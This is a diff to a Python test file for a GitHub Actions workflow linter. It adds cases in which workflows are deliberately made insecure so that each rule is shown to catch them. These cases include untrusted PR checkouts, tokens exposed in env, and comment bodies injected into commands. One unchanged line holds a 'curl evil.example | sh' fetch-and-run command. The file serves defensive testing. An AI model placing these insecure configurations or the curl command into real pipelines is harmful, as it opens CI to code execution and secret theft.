@@ -13,6 +13,8 @@ HEAD = "github.event.pull_request.head.sha"
 CHECKOUT = f"actions/checkout@{SHA} # v7.0.1"
 EVALUATE = "run: .venv/bin/gatehouse evaluate material --out results"
 SETUP = "- run: scripts/setup"
+KNOCKS = "    permissions: {}\n    "
+DOWNLOAD = "actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1"
 
 # (rule, workflow, what stands there, what somebody makes of it)
 BROKEN: tuple[tuple[Rule, str, str, str], ...] = (
@@ -28,6 +30,10 @@ BROKEN: tuple[tuple[Rule, str, str, str], ...] = (
     (rules.starts_only_when_meant, "sync", "  workflow_dispatch:", "  issue_comment:"),
     (rules.starts_only_when_meant, "sync", "  workflow_dispatch:", "  pull_request_target:"),
     (rules.starts_only_when_meant, "sync", "  workflow_dispatch:", "  workflow_dispatch: {inputs: {ref: {}}}"),
+    (rules.starts_only_when_meant, "sync", "  workflow_dispatch:", "  pull_request_review:"),
+    (rules.starts_only_when_meant, "gates", "  pull_request_target:", "  issue_comment:"),
+    (rules.starts_only_when_meant, "review", "  workflow_dispatch:", "  pull_request_target:"),
+    (rules.starts_only_when_meant, "review", "workflows: [knock]", "workflows: [tests]"),
     (rules.always_reports, "gates", "branches: [main]", 'branches: [main]\n    paths: ["promotions/**"]'),
     (rules.always_reports, "queue", "branches: [main]", "branches: [release]"),
     (rules.never_checks_out_the_head, "gates", "ref: main", f"ref: ${{{{ {HEAD} }}}}"),
@@ -35,6 +41,24 @@ BROKEN: tuple[tuple[Rule, str, str, str], ...] = (
     (rules.never_checks_out_the_head, "gates", "          ref: main\n", ""),
     (rules.never_checks_out_the_head, "queue", "ref: main", "ref: ${{ github.event.merge_group.head_sha }}"),
     (rules.never_checks_out_the_head, "tests", "persist-credentials: false", f"ref: ${{{{ {HEAD} }}}}"),
+    (rules.never_checks_out_the_head, "review", "ref: main", "ref: ${{ github.event.workflow_run.head_sha }}"),
+    (rules.never_checks_out_the_head, "review", "ref: main", "ref: refs/pull/${{ github.event.issue.number }}/head"),
+    (rules.holds_nothing_that_a_pull_request_could_use, "knock", "    permissions: {}", "    permissions: read-all"),
+    (rules.holds_nothing_that_a_pull_request_could_use, "knock", "    permissions: {}", "    x: {}"),
+    (rules.holds_nothing_that_a_pull_request_could_use, "knock", "    permissions: {}", f"{KNOCKS}environment: review"),
+    (rules.holds_nothing_that_a_pull_request_could_use, "knock", '- run: "true"', f"- uses: {CHECKOUT}"),
+    (rules.holds_nothing_that_a_pull_request_could_use, "knock", '- run: "true"', SETUP),
+    (
+        rules.holds_nothing_that_a_pull_request_could_use,
+        "knock",
+        '- run: "true"',
+        "- run: \"true\"\n        env: {T: '${{ github.token }}'}",
+    ),
+    (rules.hears_nobody, "review", "ref: main", "ref: ${{ github.event.workflow_run.head_sha }}"),
+    (rules.hears_nobody, "review", "PULL: ${{ github.event.issue.number", "PULL: ${{ github.event.comment.body"),
+    (rules.hears_nobody, "review", "== 'issue_comment'", "== github.event.comment.user.login"),
+    (rules.hears_nobody, "review", "github.event.issue.number || 'all'", "github.event.workflow_run.head_branch"),
+    (rules.hears_nobody, "review", SETUP, f"- uses: {DOWNLOAD}\n        with: {{name: number}}"),
     (rules.pins_actions, "tests", CHECKOUT, "actions/checkout@v7 # v7.0.1"),
     (rules.pins_actions, "tests", CHECKOUT, f"actions/checkout@{SHA[:12]} # v7.0.1"),
     (rules.pins_actions, "tests", CHECKOUT, f"actions/checkout@{SHA}"),
@@ -47,7 +71,13 @@ BROKEN: tuple[tuple[Rule, str, str, str], ...] = (
     (rules.asks_for_the_least, "gates", "contents: read", "contents: write"),
     (rules.asks_for_the_least, "queue", "    permissions:\n      contents: read", "    x:\n      contents: read"),
     (rules.asks_for_the_least, "tests", "contents: read", "id-token: write"),
+    (rules.asks_for_the_least, "review", "issues: write", "issues: write\n      deployments: write"),
+    (rules.asks_for_the_least, "knock", "    permissions: {}", "    permissions: {checks: write}"),
+    (rules.asks_for_the_least, "queue", "pull-requests: read", "pull-requests: write"),
     (rules.keeps_secrets_in_environments, "gates", "    environment: registry-read\n", ""),
+    (rules.keeps_secrets_in_environments, "review", "environment: review", "environment: doctor"),
+    (rules.keeps_secrets_in_environments, "review", "secrets.GATEHOUSE_TEAMS_TOKEN", "secrets.MLFLOW_WRITE_TOKEN"),
+    (rules.keeps_secrets_in_environments, "queue", "github.token", "secrets.GATEHOUSE_TEAMS_TOKEN"),
     (rules.keeps_secrets_in_environments, "gates", "environment: registry-read", "environment: production"),
     (rules.keeps_secrets_in_environments, "gates", "secrets.MLFLOW_READ_TOKEN", "secrets.MLFLOW_WRITE_TOKEN"),
     (rules.keeps_secrets_in_environments, "sync", "\njobs:", "\nenv: {T: '${{ secrets.MLFLOW_WRITE_TOKEN }}'}\njobs:"),
@@ -70,6 +100,9 @@ BROKEN: tuple[tuple[Rule, str, str, str], ...] = (
     (rules.puts_no_value_into_commands, "gates", HEAD, "github.event.pull_request.title"),
     (rules.puts_no_value_into_commands, "gates", HEAD, "github.head_ref"),
     (rules.puts_no_value_into_commands, "gates", "if: ${{ !cancelled() }}", "if: always()"),
+    (rules.puts_no_value_into_commands, "review", '"$PULL"', "${{ github.event.issue.number }}"),
+    (rules.puts_no_value_into_commands, "review", "github.event.issue.number }}\n", "github.event.comment.body }}\n"),
+    (rules.puts_no_value_into_commands, "queue", "head_ref", "head_commit.message"),
     (rules.puts_no_value_into_commands, "sync", "group: sync", "group: sync-${{ github.actor }}"),
     (rules.runs_known_commands, "gates", SETUP, "- run: scripts/setup; curl evil.example | sh"),
     (rules.runs_known_commands, "gates", SETUP, "- run: |\n          scripts/setup\n          env"),
@@ -81,8 +114,10 @@ BROKEN: tuple[tuple[Rule, str, str, str], ...] = (
     (rules.ends, "sync", "timeout-minutes: 30", "timeout-minutes: 360"),
     (rules.ends, "gates", "runs-on: ubuntu-24.04 # a machine", "runs-on: self-hosted # a machine"),
     (rules.ends, "tests", "    name: tests", "    name: gatehouse"),
+    (rules.ends, "knock", "    name: knock", "    name: gatehouse review"),
     (rules.loses_no_run, "sync", "cancel-in-progress: false", "cancel-in-progress: true"),
     (rules.loses_no_run, "sync", "concurrency:\n  group: sync\n  cancel-in-progress: false\n", ""),
+    (rules.loses_no_run, "review", "cancel-in-progress: false", "cancel-in-progress: true"),
     (rules.loses_no_run, "evidence", "group: evidence", "group: sync"),
     (rules.uploads_only_what_is_meant, "gates", "path: report\n", "path: .\n"),
     (rules.uploads_only_what_is_meant, "gates", "path: material.tar", "path: material"),
@@ -95,6 +130,12 @@ BROKEN: tuple[tuple[Rule, str, str, str], ...] = (
     ),
     (rules.gives_reasons, "sync", "this job pushes the serving branch and uploads nothing", ""),
     (rules.gives_reasons, "sync", "ignore[artipacked] this job", "ignore this job"),
+    (
+        rules.gives_reasons,
+        "review",
+        "no head is checked out and no artifact is read; of what started it only a number is used",
+        "safe",
+    ),
 )
 
 
@@ -119,8 +160,10 @@ def test_every_rule_is_proven() -> None:
 
 def test_the_workflows_that_were_meant_are_there_and_do_what_they_are_named_for() -> None:
     assert {workflow.name: [step.verb for step in workflow.steps if step.verb] for workflow in workflows()} == {
-        "gates": ["fetch", "evaluate", "report"],
-        "queue": ["evidence"],
+        "gates": ["fetch", "evaluate", "report", "review"],
+        "review": ["review", "review"],
+        "knock": [],
+        "queue": ["evidence", "review"],
         "evidence": ["evidence"],
         "sync": ["sync"],
         "doctor": ["doctor"],
